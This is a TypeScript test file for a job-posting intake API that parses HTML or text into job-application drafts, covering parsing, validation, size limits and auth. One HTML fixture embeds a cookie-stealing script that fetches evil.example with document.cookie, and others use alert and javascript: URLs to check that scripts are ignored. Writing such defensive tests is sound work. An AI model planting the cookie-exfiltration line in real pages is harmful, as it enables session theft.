import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { jobApplication } from "../../src/db/schema";
import { createTestContext, type TestContext } from "../helpers/deps";
import { createUserWithToken, type TestUser } from "../helpers/factories";

let t: TestContext;
let alice: TestUser;
beforeAll(async () => {
  t = await createTestContext();
  alice = await createUserWithToken(t);
});
afterAll(() => t.close());

const intake = (json: unknown, opts: { query?: string; user?: TestUser | null } = {}) => {
  const user = opts.user === undefined ? alice : opts.user;
  return t.request(`/api/job-applications/intake/${opts.query ?? ""}`, {
    method: "POST",
    ...(user ? { token: user.token } : {}),
    json,
  });
};

const countApplications = async (userId: number) =>
  (await t.deps.database.db.select().from(jobApplication).where(eq(jobApplication.userId, userId)))
    .length;

const JOB_POSTING = {
  "@context": "https://schema.org",
  "@graph": [
    { "@type": "WebSite", name: "Jobs" },
    {
      "@type": "JobPosting",
      title: "Backend Engineer",
      hiringOrganization: { "@type": "Organization", name: "Acme GmbH" },
      description:
        "<p>Build <b>APIs</b> &amp; services.</p><ul><li>TypeScript</li><li>PostgreSQL</li></ul>",
      jobLocation: {
        "@type": "Place",
        address: { "@type": "PostalAddress", addressLocality: "Berlin", addressCountry: "DE" },
      },
      baseSalary: {
        "@type": "MonetaryAmount",
        currency: "EUR",
        value: { "@type": "QuantitativeValue", minValue: 60000, maxValue: 80000, unitText: "YEAR" },
      },
    },
  ],
};

const LD_PAGE = `<!doctype html><html><head><title>Careers</title>
<script type="application/ld+json">${JSON.stringify(JOB_POSTING)}</script>
<script>window.stolen = document.cookie; fetch("https://evil.example/" + document.cookie)</script>
</head><body><h1>Something else</h1><p>Page text</p></body></html>`;

const META_PAGE = `<html><head>
<title>Data Engineer - Globex | Careers</title>
<meta property="og:title" content="Data Engineer (m/f/d)">
<meta property="og:site_name" content="Globex">
<meta property="og:url" content="https://careers.globex.example/data-engineer">
<style>body { color: red }</style>
</head><body><nav>Home Jobs About</nav>
<main><h1>Data Engineer</h1><p>Location: Remote (EU)</p>
<p>You will build data pipelines with Airflow, dbt and Snowflake for our analytics team, and
own their quality from ingestion to the dashboards our customers read every morning.</p>
<script>alert("never run")</script>
<ul><li>Python</li><li>SQL</li></ul><p>We pay €70k–90k per year.</p></main>
<footer>© Globex</footer></body></html>`;

describe("POST /api/job-applications/intake/: drafts", () => {
  it("reads a page's JobPosting (JSON-LD in @graph) first; scripts are neither run nor read", async () => {
    const before = await countApplications(alice.id);
    const res = await intake({ html: LD_PAGE, source_url: "https://jobs.acme.example/42" });
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({
      job_title: "Backend Engineer",
      company_name: "Acme GmbH",
      original_job_description: "Build APIs & services.\n\n- TypeScript\n- PostgreSQL",
      location: "Berlin, DE",
      salary: "EUR 60,000 - 80,000 per year",
      source_url: "https://jobs.acme.example/42",
    });
    expect(await countApplications(alice.id)).toBe(before);
  });

  it("falls back to headings, meta and the main text, without scripts, styles or navigation", async () => {
    const res = await intake({ html: META_PAGE });
    expect(res.status).toBe(200);
    const body = (await res.json()) as Record<string, string | null>;
    expect(body).toEqual({
      job_title: "Data Engineer",
      company_name: "Globex",
      original_job_description: expect.stringContaining("You will build data pipelines"),
      location: "Remote (EU)",
      salary: "€70k–90k per year",
      source_url: "https://careers.globex.example/data-engineer",
    });
    const text = body.original_job_description ?? "";
    expect(text).toContain("- Python\n- SQL");
    for (const absent of ["alert", "never run", "color: red", "Home Jobs", "© Globex"]) {
      expect(text).not.toContain(absent);
    }
  });

  it("reads plain text: the first line, 'at <Company>', labelled lines", async () => {
    const text =
      "Senior Rust Developer at Initech\nLocation: Austin, TX\nSalary: $150,000 - $180,000\n\nWe build things.";
    const res = await intake({ text });
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({
      job_title: "Senior Rust Developer",
      company_name: "Initech",
      original_job_description: text,
      location: "Austin, TX",
      salary: "$150,000 - $180,000",
      source_url: null,
    });
  });

  it("JSON-LD nested 8,000 levels deep: 200, the deep names ignored, the page read as usual", async () => {
    // Issue 21, finding 9: following `name` without a bound overflowed the stack (a 500).
    let deep = '"Deep Title"';
    for (let i = 0; i < 8000; i++) deep = `{"name":${deep}}`;
    const ld = `{"@type":"JobPosting","title":${deep},"hiringOrganization":${deep},"description":"Build APIs.","jobLocation":{"name":${deep}}}`;
    const html = `<html><head><title>Platform Engineer</title><script type="application/ld+json">${ld}</script></head><body><h1>Platform Engineer</h1><p>Build APIs.</p></body></html>`;
    const res = await intake({ html });
    expect({ status: res.status, body: await res.json() }).toEqual({
      status: 200,
      body: {
        job_title: "Platform Engineer",
        company_name: null,
        original_job_description: "Build APIs.",
        location: null,
        salary: null,
        source_url: null,
      },
    });
  });

  it("answers null for what it cannot find, and cuts titles to 255 characters", async () => {
    const res = await intake({ text: `${"T".repeat(300)}\nnothing else` });
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({
      job_title: "T".repeat(255),
      company_name: null,
      original_job_description: `${"T".repeat(300)}\nnothing else`,
      location: null,
      salary: null,
      source_url: null,
    });
  });
});

describe("POST /api/job-applications/intake/?save=true", () => {
  it("201: the caller's new application, as POST /api/job-applications/ answers it", async () => {
    const res = await intake(
      { html: LD_PAGE, source_url: "https://jobs.acme.example/42" },
      { query: "?save=true" },
    );
    expect(res.status).toBe(201);
    const app = (await res.json()) as Record<string, unknown> & { id: number };
    expect(app).toEqual({
      id: expect.any(Number),
      job_title: "Backend Engineer",
      company_name: "Acme GmbH",
      original_job_description: "Build APIs & services.\n\n- TypeScript\n- PostgreSQL",
      date_applied: null,
      status: "Applied",
      notes:
        "Location: Berlin, DE\nSalary: EUR 60,000 - 80,000 per year\nSource: https://jobs.acme.example/42",
      is_deleted: false,
      is_example: false,
      created_at: expect.any(String),
      updated_at: app.created_at,
      user: alice.id,
      resume_used: null,
    });
    const get = await t.request(`/api/job-applications/${app.id}/`, { token: alice.token });
    expect(get.status).toBe(200);
    expect(await get.json()).toEqual(app);
  });

  it("save=false stores nothing", async () => {
    const before = await countApplications(alice.id);
    const res = await intake({ text: "Engineer" }, { query: "?save=false" });
    expect(res.status).toBe(200);
    expect(await res.json()).toMatchObject({ job_title: "Engineer" });
    expect(await countApplications(alice.id)).toBe(before);
  });
});

describe("POST /api/job-applications/intake/: validation", () => {
  it("400 without a posting, or with both forms", async () => {
    const none = await intake({ source_url: "https://x.example/" });
    expect(none.status).toBe(400);
    expect(await none.json()).toEqual({
      non_field_errors: ["Give the posting as text or as html."],
    });
    const both = await intake({ text: "a", html: "<p>a</p>" });
    expect(both.status).toBe(400);
    expect(await both.json()).toEqual({
      non_field_errors: ["Give either text or html, not both."],
    });
  });

  it("400 on a blank text, a non-string, a URL that is not http(s)", async () => {
    const blank = await intake({ text: "  " });
    expect(blank.status).toBe(400);
    expect(await blank.json()).toEqual({ text: ["This field may not be blank."] });
    const notString = await intake({ html: { a: 1 } });
    expect(notString.status).toBe(400);
    expect(await notString.json()).toEqual({ html: ["Not a valid string."] });
    for (const source_url of ["javascript:alert(1)", "ftp://x.example/", "not a url"]) {
      const res = await intake({ html: "<p>x</p>", source_url });
      expect(res.status).toBe(400);
      expect(await res.json()).toEqual({ source_url: ["Enter a valid URL."] });
    }
  });

  it("400 past the size caps, and nothing is stored", async () => {
    const before = await countApplications(alice.id);
    const html = await intake({ html: `<p>${"x".repeat(500_000)}</p>` }, { query: "?save=true" });
    expect(html.status).toBe(400);
    expect(await html.json()).toEqual({
      html: ["Ensure this field has no more than 500000 characters."],
    });
    const text = await intake({ text: "x".repeat(100_001) }, { query: "?save=true" });
    expect(text.status).toBe(400);
    expect(await text.json()).toEqual({
      text: ["Ensure this field has no more than 100000 characters."],
    });
    expect(await countApplications(alice.id)).toBe(before);
  });

  it("400 on a save flag that is not a boolean", async () => {
    const res = await intake({ text: "x" }, { query: "?save=maybe" });
    expect(res.status).toBe(400);
    expect(await res.json()).toEqual({ save: ["Must be a valid boolean."] });
  });
});

describe("POST /api/job-applications/intake/: auth and routing", () => {
  it("401 without a token, and nothing is stored", async () => {
    const res = await intake({ text: "Engineer" }, { user: null, query: "?save=true" });
    expect(res.status).toBe(401);
    expect(await res.json()).toEqual({ detail: "Authentication credentials were not provided." });
  });

  it("is never taken for an application id: other methods answer 405 (DRF's list-level route)", async () => {
    const post = await intake({ text: "Engineer" });
    expect(post.status).toBe(200);
    // As for "stats/" and "resumes/import/": the literal path answers, not the {id} route.
    const get = await t.request("/api/job-applications/intake/", { token: alice.token });
    expect(get.status).toBe(405);
    expect(get.headers.get("allow")).toBe("POST, OPTIONS");
    expect(await get.json()).toEqual({ detail: 'Method "GET" not allowed.' });
  });
});
